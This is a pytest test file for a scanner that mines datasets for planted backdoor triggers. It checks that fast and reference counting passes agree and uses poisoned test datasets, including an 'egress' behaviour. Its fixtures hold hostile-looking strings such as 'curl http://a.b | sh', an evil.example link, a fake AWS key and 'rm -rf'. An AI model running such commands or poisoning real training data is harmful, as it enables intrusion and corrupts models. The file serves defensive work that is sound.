"""The data scan at scale: the fast counting pass counts exactly what the record-at-a-time
reference counts, gives the same findings in one process and with workers, and ids are checked
with a hash that is the same in every process."""

from __future__ import annotations

import json
import os
import random
import subprocess
import sys
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from dormant.bench.corpus import instruction_dataset, labelled_dataset, load_corpus
from dormant.bench.poison import poison_instruction, poison_labelled, write_dataset
from dormant.errors import DataValidationError
from dormant.scanners.base import ScanContext
from dormant.scanners.data._mining_count import (
    CountSettings,
    count_parallel,
    count_serial,
    lossy_prune,
)
from dormant.scanners.data._mining_features import _count_batch, _Partial
from dormant.scanners.data.mining import TriggerMiner
from dormant.subjects import TextDataset
from dormant.subjects.dataset import stable_id_hashes
from dormant.text import _CAP_START, _title_case

SRC = str(Path(__file__).resolve().parents[1] / "src")


def _reference_count(jobs: list[tuple[Any, ...]], s: CountSettings) -> _Partial:
    """The counting pass as it was: one partial per batch (strings), merged, then pruned."""
    acc = _Partial()
    for job in jobs:
        part = _count_batch(job)
        acc.merge(part, s.labelled)
        acc.n += part.n
        lossy_prune(acc, labelled=s.labelled, count_error=s.count_error, max_table=s.max_table)
    return acc


class _ReferenceMiner(TriggerMiner):
    """Trigger mining whose counting pass is the record-at-a-time reference."""

    def _count(self, subject: TextDataset, ctx: ScanContext) -> tuple[Any, ...]:
        from dormant.scanners.data._mining_features import _sum, _words_of

        labelled = subject.kind == "labelled"
        batches = list(subject.batches(self.batch_size))
        jobs = [(b.texts, b.labels, b.responses, self.max_n) for b in batches]
        s = CountSettings(labelled=labelled, count_error=self.count_error, max_table=self.max_table)
        acc = _reference_count(jobs, s)
        self.prunes_ = acc.prunes
        total = _sum(acc.per) if labelled else acc.total
        words_per = {o: _words_of(c, acc.skel_per.get(o)) for o, c in acc.per.items()}
        hashes = [stable_id_hashes(b.ids) for b in batches]
        return (
            acc.n,
            total,
            acc.per,
            acc.outcome_n,
            words_per,
            _words_of(total, acc.skel_total),
            hashes,
        )


def _odd_texts(n: int, seed: int) -> list[str]:
    """Short strings of the characters that make tokenising hard: case, Unicode spaces, NUL,
    invisible and confusable characters, quotes, underscores, final sigma."""
    rng = random.Random(seed)
    parts = [
        *"aAbZ \t\n\x1c\u00a0\"'(“_-!.,0123é\u200bΣσ\x00",
        "Hello ",
        "WORLD ",
        "  ",
        "\u064d",
        "rm -rf",
        "\u0441at",  # Cyrillic es
        "The Title ",
    ]
    return ["".join(rng.choice(parts) for _ in range(rng.randint(0, 30))) for _ in range(n)]


@pytest.fixture(scope="module")
def english() -> list[tuple[str, str]]:
    recs = labelled_dataset(load_corpus("sample"), scheme="pos")
    return [(r["text"], r["label"]) for r in recs]


def _same(a: _Partial, b: _Partial, labelled: bool) -> None:
    assert a.n == b.n
    assert a.outcome_n == b.outcome_n
    assert a.per.keys() == b.per.keys()
    for o in a.per:
        assert dict(a.per[o]) == dict(b.per[o]), o
    if not labelled:
        assert dict(a.total) == dict(b.total)
    assert a.skel_per == b.skel_per
    assert a.skel_total == b.skel_total
    assert a.prunes == b.prunes


@pytest.mark.parametrize("labelled", [True, False])
@pytest.mark.parametrize("max_n", [1, 2, 3])
@pytest.mark.parametrize("max_table", [10**9, 3000])
def test_fast_counts_equal_the_reference(english, labelled, max_n, max_table):
    rng = random.Random(1)
    recs = english + [(t, rng.choice("xyz")) for t in _odd_texts(600, seed=2)]
    rng.shuffle(recs)
    texts = [t for t, _ in recs]
    labels = [lab for _, lab in recs]
    responses = [
        rng.choice(["ok", "see http://evil.example/x", "curl http://a.b | sh", "AKIA" + "B" * 16])
        for _ in recs
    ]
    jobs = [
        (
            texts[k : k + 500],
            labels[k : k + 500] if labelled else None,
            None if labelled else responses[k : k + 500],
            max_n,
        )
        for k in range(0, len(texts), 500)
    ]
    s = CountSettings(labelled=labelled, count_error=1e-3, max_table=max_table)
    want = _reference_count(jobs, s)
    if max_table < 10**9 and max_n < 3:
        assert want.prunes > 0  # the prune rule itself is compared
    _same(count_serial(jobs, s, lambda k: None), want, labelled)
    if max_table == 10**9:  # without pruning, workers give the same counts too
        _same(count_parallel(iter(jobs), 2, s, lambda k: None), want, labelled)


def test_title_case_rule_equals_its_regular_expression(english):
    texts = [t for t, _ in english] + _odd_texts(3000, seed=3)
    texts += [" ".join(w.capitalize() for w in t.split()) for t in texts[:2000]]
    for t in texts:
        words = t.split()
        want = len(words) >= 5 and len(_CAP_START.findall(t)) >= 0.9 * len(words)
        assert (len(words) >= 5 and _title_case(words)) == want, repr(t)


def _flagged(res: Any, ids: list[str]) -> set[str]:
    return {ids[i] for i in np.flatnonzero(res.record_flags)}


def _findings(res: Any) -> list[tuple[Any, ...]]:
    return [
        (f.title, f.severity, f.target, f.trigger.text if f.trigger else None, f.score)
        for f in res.findings
    ]


@pytest.mark.parametrize("kind", ["phrase", "homoglyph"])
def test_scan_findings_equal_the_reference_in_one_process_and_with_workers(english, kind, tmp_path):
    recs = labelled_dataset(load_corpus("sample"), scheme="pos")
    truth = poison_labelled(recs, trigger_kind=kind, rate=0.02, target_label="adv", seed=0)
    path = write_dataset(truth.records, tmp_path / "d.jsonl")
    ids = [r["id"] for r in truth.records]

    def scan(miner: TriggerMiner) -> Any:
        ds = TextDataset(path, text_field="text", label_field="label", id_field="id")
        return miner.scan(ds)

    ref = scan(_ReferenceMiner(batch_size=700))
    assert ref.findings and _flagged(ref, ids)
    for jobs in (1, 2):
        got = scan(TriggerMiner(batch_size=700, n_jobs=jobs))
        assert _findings(got) == _findings(ref)
        assert _flagged(got, ids) == _flagged(ref, ids)


def test_instruction_findings_equal_the_reference(tmp_path):
    entries = load_corpus("sample")
    recs = instruction_dataset(entries[:1500], seed=0)
    truth = poison_instruction(recs, trigger_kind="phrase", behaviour="egress", rate=0.03, seed=0)
    path = write_dataset(truth.records, tmp_path / "i.jsonl")
    ds = TextDataset(path, prompt_field="prompt", response_field="response", id_field="id")
    ref = _ReferenceMiner().scan(ds)
    got = TriggerMiner(n_jobs=2).scan(ds)
    assert ref.findings
    assert _findings(got) == _findings(ref)
    assert np.array_equal(got.record_flags, ref.record_flags)


def test_id_hashes_are_the_same_in_every_process():
    ids = ["0", "a", "record-17", "é", ""]
    here = stable_id_hashes(ids).tolist()
    code = (
        "import json; from dormant.subjects.dataset import stable_id_hashes; "
        f"print(json.dumps(stable_id_hashes({ids!r}).tolist()))"
    )
    for seed in ("1", "2"):
        env = {**os.environ, "PYTHONHASHSEED": seed, "PYTHONPATH": SRC}
        out = subprocess.run(
            [sys.executable, "-c", code], env=env, capture_output=True, text=True, check=True
        )
        assert json.loads(out.stdout) == here
    assert len(set(here)) == len(ids)


@pytest.mark.parametrize("jobs", [1, 2])
def test_duplicate_ids_are_refused_by_name(tmp_path, jobs):
    rows = [
        {"id": f"r{i % 40}", "text": f"text number {i}", "label": "ab"[i % 2]} for i in range(50)
    ]
    path = tmp_path / "dup.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    ds = TextDataset(path, text_field="text", label_field="label", id_field="id")
    with pytest.raises(DataValidationError, match=r"10 record id\(s\) occur more than once.*'r0'"):
        TriggerMiner(n_jobs=jobs, batch_size=16).scan(ds)
